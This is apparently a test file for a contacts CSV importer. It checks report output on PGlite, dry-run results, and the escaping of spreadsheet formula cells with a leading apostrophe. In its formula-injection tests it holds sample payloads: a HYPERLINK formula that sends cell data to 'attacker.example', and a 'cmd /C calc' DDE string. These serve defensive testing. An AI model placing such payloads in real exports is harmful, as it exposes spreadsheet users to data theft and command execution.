import { readFileSync } from "node:fs"
import { assert, describe, layer } from "@effect/vitest"
import {
  ContactStore,
  defaultImportSettings,
  IdGenerator,
  importFile,
  jobReport
} from "@xcontacts/domain"
import { parse } from "csv-parse/sync"
import { Effect, Layer, Stream } from "effect"
import { storesLayer } from "../src/index.ts"

const fixture = readFileSync(
  new URL("../../../../shared/fixtures/messy/29-formula-injection-cells.csv", import.meta.url),
  "utf8"
)

const file = (text: string) => ({
  name: "29-formula-injection-cells.csv",
  open: async function* () {
    yield new TextEncoder().encode(text)
  }
})

const settings = { ...defaultImportSettings, organizationKey: "name" as const, division: "fx" }

const reportOf = (text: string, failedOnly: boolean) =>
  Effect.gen(function* () {
    const job = yield* importFile({ file: file(text), settings, dryRun: false })
    const report = yield* jobReport(job.id, { failedOnly, source: file(text) })
    const lines = yield* Stream.runCollect(report)
    return { job, text: lines.join("") }
  })

const stores = Layer.merge(storesLayer({ _tag: "Pglite", dataDir: null }), IdGenerator.layer)

layer(stores, { timeout: 60_000 })("a job's report on PGlite", (it) => {
  describe("of a file rejected while validating", () => {
    it.effect("keeps the header and ends where the file could no longer be read", () =>
      Effect.gen(function* () {
        const text = readFileSync(
          new URL(
            "../../../../shared/fixtures/messy/08-unclosed-quote-swallows-rows.csv",
            import.meta.url
          ),
          "utf8"
        )
        const { job, text: report } = yield* reportOf(text, false)
        assert.strictEqual(job.state, "failed")
        assert.deepStrictEqual(
          job.problems.map((problem) => problem.code),
          ["QUOTE_NOT_CLOSED"]
        )
        assert.strictEqual(
          report,
          "external_id,first_name,last_name,email,phone,organization,line,outcome,contact_id," +
            "organization_id,messages\r\n"
        )
      })
    )
  })

  describe("of a dry run", () => {
    it.effect("leaves out the ids of what it would create, and names what exists", () =>
      Effect.gen(function* () {
        const dry = { ...settings, division: "dry", organizationKey: "column" as const }
        const header = "External ID,Last Name,External Organization External ID,Organization Name\n"
        const first = yield* importFile({
          file: file(`${header}K-1,Known,ORG-1,Known Ltd\n`),
          settings: dry,
          dryRun: false
        })
        const text = `${header}K-1,Known,ORG-2,New Ltd\nK-2,New,ORG-1,Known Ltd\n`
        const job = yield* importFile({ file: file(text), settings: dry, dryRun: true })
        assert.strictEqual(job.state, "validated")
        const report = yield* jobReport(job.id, { failedOnly: false, source: file(text) })
        const rows = parse((yield* Stream.runCollect(report)).join("")) as Array<Array<string>>
        const known = yield* ContactStore.use((store) => store.list({ division: "dry", limit: 10 }))
        assert.strictEqual(known.length, 1)
        const [contact] = known
        assert.strictEqual(first.counters.organizations.created, 1)
        // K-1 exists: its id is given, its new organization's is not; K-2 would be new, in the
        // existing ORG-1.
        assert.deepStrictEqual(
          rows.slice(1).map((row) => row.slice(4, 8)),
          [
            ["2", "updated", contact!.id, ""],
            ["3", "created", "", contact!.organizationId!]
          ]
        )
      })
    )
  })

  describe("of a file with formula cells", () => {
    it.effect("holds no cell a spreadsheet would run", () =>
      Effect.gen(function* () {
        const { text } = yield* reportOf(fixture, false)
        const rows = parse(text) as Array<Array<string>>
        assert.strictEqual(rows.length, 5)
        const cells = rows.flat()
        assert.deepStrictEqual(
          cells.filter((cell) => /^[=+\-@\t\r]/u.test(cell)),
          []
        )
        assert.include(cells, '\'=HYPERLINK("http://attacker.example/?x="&A1,"open")')
        assert.include(cells, "'@SUM(1+1)")
        assert.include(cells, "'=1+2")
        assert.include(cells, "'-2+3")
        assert.include(cells, "'+cmd|' /C calc'!A0")
        assert.include(cells, "'\t=1+1")
      })
    )

    it.effect("imports again once its failed rows are corrected", () =>
      Effect.gen(function* () {
        const { job, text } = yield* reportOf(fixture, true)
        assert.strictEqual(job.counters.rowsFailed, 1)
        const rows = parse(text) as Array<Array<string>>
        assert.deepStrictEqual(
          rows.map((row) => row[0]),
          ["external_id", "C-2901"]
        )
        assert.strictEqual(rows[1]![rows[0]!.indexOf("outcome")], "failed")

        const corrected = text.replace("not-an-email", "doe@example.com")
        const again = yield* importFile({ file: file(corrected), settings, dryRun: false })
        assert.strictEqual(again.state, "completed")
        assert.strictEqual(again.counters.rowsFailed, 0)
        assert.strictEqual(again.counters.contacts.created, 1)
        // The file's own unknown column stays unknown; the report's five columns are not.
        const unknown = (problems: typeof job.problems) =>
          problems
            .filter((problem) => problem.code === "UNKNOWN_COLUMN")
            .map((problem) => problem.message)
        assert.deepStrictEqual(unknown(again.problems), unknown(job.problems))
        assert.match(unknown(again.problems).join(), /"notes"/u)
        for (const column of ["line", "outcome", "contact_id", "organization_id", "messages"]) {
          assert.notInclude(unknown(again.problems).join(), `"${column}"`)
        }
        const contacts = yield* ContactStore.use((store) =>
          store.list({ division: "fx", limit: 100 })
        )
        const doe = contacts.find((contact) => contact.lastName === "Doe")!
        assert.strictEqual(doe.workEmail, "doe@example.com")
        assert.strictEqual(doe.firstName, '=HYPERLINK("http://attacker.example/?x="&A1,"open")')
      })
    )

    it.effect("gives back values that start with an apostrophe when imported again", () =>
      Effect.gen(function* () {
        const original =
          "External ID,First Name,Last Name,Work Email\n" +
          "A-1,'Ohana,'=1+1,bad\n" +
          "A-2,'+44 note,=1+1,bad2\n"
        const { text } = yield* reportOf(original, true)
        const rows = parse(text) as Array<Array<string>>
        assert.deepStrictEqual(
          rows.slice(1).map((row) => row.slice(0, 3)),
          [
            ["A-1", "''Ohana", "''=1+1"],
            ["A-2", "''+44 note", "'=1+1"]
          ]
        )

        const corrected = text
          .replace(",bad,", ",a1@example.com,")
          .replace(",bad2,", ",a2@example.com,")
        const again = yield* importFile({ file: file(corrected), settings, dryRun: false })
        assert.strictEqual(again.counters.contacts.created, 2)
        const contacts = yield* ContactStore.use((store) =>
          store.list({ division: "fx", limit: 100 })
        )
        const names = (email: string) => {
          const contact = contacts.find((c) => c.workEmail === email)
          return [contact?.firstName, contact?.lastName]
        }
        assert.deepStrictEqual(names("a1@example.com"), ["'Ohana", "'=1+1"])
        assert.deepStrictEqual(names("a2@example.com"), ["'+44 note", "=1+1"])
      })
    )
  })
})
